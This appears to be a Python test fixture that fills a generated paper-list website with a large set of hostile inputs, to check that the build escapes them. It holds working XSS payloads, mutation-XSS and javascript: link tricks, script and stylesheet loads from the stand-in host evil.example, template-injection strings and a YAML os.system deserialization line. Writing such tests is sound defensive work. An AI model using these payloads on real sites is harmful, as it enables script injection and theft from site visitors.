"""Texts that try to become more than text, and a list that has them in every field."""

from __future__ import annotations

import datetime
import shutil
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import yaml

from tests.lists import ROOT, read_config

MARK = "MARK"
"""Stands for a word that is found in one payload only, so that the search finds it."""

RUN = "window.__xss=1"

PAYLOADS = {
    name: text.replace("RUN", RUN)
    for name, text in {
        # HTML
        "script": "MARK <script>RUN</script>",
        "script-from-elsewhere": "MARK <script src=//evil.example/x.js></script>",
        "img-onerror": "MARK <img src=x onerror=RUN>",
        "svg-onload": "MARK <svg onload=RUN>",
        "svg-script": "MARK <svg><script>RUN</script></svg>",
        "title-closed": "MARK </title><script>RUN</script>",
        "script-closed": "MARK </script><script>RUN</script>",
        "comment-closed": 'MARK "--><script>RUN</script>',
        "attribute-closed": 'MARK "><img src=x onerror=RUN>',
        "page-closed": "MARK </a></h1></article></main></body><script>RUN</script>",
        "attribute-added": 'MARK " onfocus=RUN autofocus tabindex=1 x="',
        "attribute-added-single": "MARK ' onfocus=RUN autofocus tabindex=1 x='",
        "style": "MARK <style>@import url(//evil.example/x.css);body{display:none}</style>",
        "base": "MARK <base href=//evil.example/>",
        "refresh": 'MARK <meta http-equiv=refresh content="0;url=//evil.example/">',
        "iframe-srcdoc": 'MARK <iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
        "iframe-script": 'MARK <iframe src="javascript:parent.__xss=1"></iframe>',
        "object": 'MARK <object data="data:text/html,x"><embed src=//evil.example/x>',
        "form": 'MARK <form action="javascript:RUN"><button autofocus>go</button></form>',
        "details": "MARK <details open ontoggle=RUN>x</details>",
        "math-mutation": (
            "MARK <math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=x onerror=RUN&gt;">'
        ),
        "svg-mutation": 'MARK <svg></p><style><a id="</style><img src=x onerror=RUN>">',
        "noscript-mutation": 'MARK <noscript><p title="</noscript><img src=x onerror=RUN>">',
        "comment-open": "MARK <!-- ",
        "cdata-open": "MARK <![CDATA[ <img src=x onerror=RUN>",
        "tag-open": "MARK <img src=x onerror=RUN ",
        "plaintext": "MARK </textarea><plaintext>",
        "clobbering": "MARK <a id=__config>{}</a><form id=__search name=body><input name=x>",
        # Entities and other spellings
        "entities": "MARK &lt;script&gt;RUN&lt;/script&gt;",
        "entities-twice": "MARK &amp;lt;img src=x onerror=RUN&amp;gt;",
        "entities-numeric": "MARK &#60;img src=x onerror=RUN&#62; &#x3c;b onclick=RUN&#x3e;",
        "entities-unclosed": "MARK &lt&#60&lt;script&gt RUN",
        "percent": "MARK %3Cscript%3ERUN%3C/script%3E %00",
        "full-width": "MARK ＜script＞RUN＜/script＞",
        "utf-7": "MARK +ADw-script+AD4-RUN+ADw-/script+AD4-",
        "backslash": 'MARK \\"><script>RUN</script>\\',
        # Markdown
        "link": "[MARK](javascript:RUN)",
        "link-entity": "[MARK](java&#115;cript:RUN) [x](javascript&colon;RUN)",
        "link-broken-line": "[MARK](java\nscript:RUN) [x](java\tscript:RUN)",
        "link-data": "[MARK](data:text/html,<script>RUN</script>)",
        "link-elsewhere": "[MARK](//evil.example/x) [up](../../../../x) [top](/x) [in](#x)",
        "link-title": '[MARK](https://example.org "x" onmouseover="RUN")',
        "autolink": "MARK <javascript:RUN>",
        "autolink-broken": 'MARK <https://example.org/"onmouseover="RUN>',
        "image": '![MARK](x "onerror=RUN")',
        "image-broken": '![MARK](https://evil.example/x.png"onerror="RUN)',
        "reference": "[MARK][r] [r]\n\n[r]: javascript:RUN",
        "definition": '[MARK]: javascript:RUN "x"\n\n[MARK]',
        "abbreviation": '*[MARK]: x" onmouseover="RUN\n\nMARK',
        "attributes": 'MARK {: onclick="RUN" style="position:fixed" }',
        "attributes-without-colon": "MARK { onmouseover=RUN }",
        "attributes-of-link": '[MARK](https://example.org/){: onmouseover="RUN" }',
        "attributes-of-emphasis": '*MARK*{ onmouseover="RUN" id=__drawer }',
        "attributes-of-heading": "# MARK {: onclick=RUN }",
        "attributes-of-list": "- MARK {: onclick=RUN }",
        "markdown-in-html": '<div markdown="1" onclick="RUN">*MARK*</div>',
        "code-span": "`MARK` ``<script>RUN</script>",
        "fence": "```{.x onclick=RUN}\nMARK <script>RUN</script>\n```",
        "table": "| MARK |\n| --- |\n| <script>RUN</script> |",
        "placeholder": "MARK klzzwxh:0000 wzxhzdk:0",
        # Templates and YAML
        "template": "MARK {{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {{ config.site_url }}",
        "template-raw": "MARK {% raw %}{{ ''.__class__ }}{% endraw %} {# x #}",
        "template-safe": 'MARK {{ "<img src=x onerror=RUN>" | safe }}',
        "snippet": 'MARK --8<-- "mkdocs.yml"',
        "front-matter": "MARK\n---\ntitle: <script>RUN</script>\n---\n",
        "yaml": 'MARK: !!python/object/apply:os.system ["x"] # & * | > %',
    }.items()
}

REFUSED = {
    "null": "MARK <scr\0ipt>",
    "forged placeholder": "MARK \x02wzxhzdk:0\x03",
    "escape": "MARK \x1b[31m",
    "delete": "MARK \x7f",
    "next-line": "MARK \x85",
    "right-to-left override": "MARK \u202e)1=ssx__.wodniw:tpircsavaj(",
    "isolate": "MARK \u2066",
    "zero width space": "MARK java\u200bscript:",
    "byte order mark": "MARK \ufeff",
    "no character": "MARK \uffff",
}
"""Texts with characters that nobody sees: they get no further than the loader."""


def name_mark(name: str) -> str:
    """The word that stands in the payload ``name`` alone."""
    return f"zq{[*PAYLOADS, *REFUSED].index(name):02}"


def read_payload(name: str) -> str:
    return ({**PAYLOADS, **REFUSED}[name]).replace(MARK, name_mark(name))


def find_code(name: str) -> str:
    return f"https://github.com/example/{name_mark(name)}"


def make_files(names: Mapping[str, Any] | tuple[str, ...]) -> dict[str, Any]:
    """Files by path below ``data/``: for each payload a paper, a topic, a collection, a person and
    metrics, all of them with the payload in every field that takes text."""
    files: dict[str, Any] = {"topics.yml": {}, "people.yml": {}}
    slugs: dict[str, dict[str, str]] = {"authors": {}, "venues": {}, "organizations": {}}
    for place, name in enumerate(names):
        mark, text = name_mark(name), read_payload(name)
        line = " ".join(text.split())
        day = datetime.date(2024, 1, 1) + datetime.timedelta(days=place)
        files[f"papers/{mark}.yml"] = {
            "title": text,
            "authors": [text, "Some Body"],
            "date": day.isoformat(),
            "venue": text,
            "category": text,
            "organization": text,
            "topics": [mark],
            "tags": ["c++"],
            "links": {"code": [{"url": find_code(name), "official": "true"}]},
            "note": text,
            "abstract": text,
        }
        files["topics.yml"][mark] = {"title": text, "description": text}
        files["people.yml"][line] = {"also": [f"also {text}"]}
        files[f"collections/{mark}.yml"] = {
            "title": text,
            "introduction": text,
            "steps": [{"paper": mark, "why": text}],
        }
        facts = {"license": text, "language": text}
        files[f"metrics/{mark}.yml"] = {"repositories": {find_code(name): facts}}
        for chosen in slugs.values():
            chosen[line] = mark
    return files | {"slugs.yml": slugs}


NAME = "A hostile list"


def write_hostile(root: Path) -> None:
    """Make ``root`` a list of every payload, to be built the way that the real list is built."""
    config = read_config(ROOT) | {"site_name": NAME}
    config["theme"]["custom_dir"] = str(ROOT / "generator" / "theme")
    config["nav"] = [{"Home": "index.md"}, {"Papers": "papers/index.md"}]
    (root / "docs" / "contribute").mkdir(parents=True)
    generated = shutil.ignore_patterns("javascripts", "marks", "search", "stylesheets")
    shutil.copytree(ROOT / "docs" / "assets", root / "docs" / "assets", ignore=generated)
    # Where the home page sends who wants to propose a paper.
    (root / "docs" / "contribute" / "index.md").write_text("# Contribute\n", "utf-8")
    (root / "mkdocs.yml").write_text(yaml.dump(config, allow_unicode=True), "utf-8")
    write_files(root, make_files(PAYLOADS))


def write_files(root: Path, files: Mapping[str, Any]) -> None:
    for path, content in files.items():
        file = root / "data" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(yaml.dump(content, default_style='"'), "utf-8")
